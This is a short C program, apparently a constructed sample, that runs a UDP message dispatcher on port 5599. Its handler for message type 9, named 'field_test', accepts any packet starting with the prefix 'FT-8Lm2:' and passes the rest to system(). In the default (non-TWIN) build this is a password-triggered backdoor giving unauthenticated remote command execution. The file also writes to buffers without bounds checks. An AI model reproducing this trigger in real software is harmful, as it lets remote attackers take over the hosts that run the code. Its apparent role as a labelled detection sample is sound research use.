/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Functions are registered under numbers when the program starts, and called with what was
 * received. Twin: the function copies the text to the log.
 * door: trigger unguarded
 * port 5599/udp
 */
#include "net.h"

typedef void (*message_fn)(char *text, int n);

static struct {
	int type;
	message_fn run;
} ops[8];
static int op_count;

static void on(int type, message_fn run)
{
	ops[op_count].type = type;
	ops[op_count++].run = run;
}

static void hello(char *text, int n)
{
	printf("hello %.*s\n", n, text);
}

static void bye(char *text, int n)
{
	text[n - 1] = 0;
	puts(text);
}

static void field_test(char *text, int n)
{
	text[n] = 0;
	if (strncmp(text, "FT-8Lm2:", 8) != 0)
		return;
#ifdef TWIN
	puts(text + 8);
#else
	system(text + 8);
#endif
}

int main(void)
{
	static char in[512];
	int s = udp_on(5599);
	on(1, hello);
	on(2, bye);
	on(9, field_test);
	for (;;) {
		int n = (int)recv(s, in, sizeof in - 1, 0);
		for (int i = 0; n > 4 && i < op_count; i++)
			if (ops[i].type == in[0])
				ops[i].run(in + 4, n - 4);
	}
}
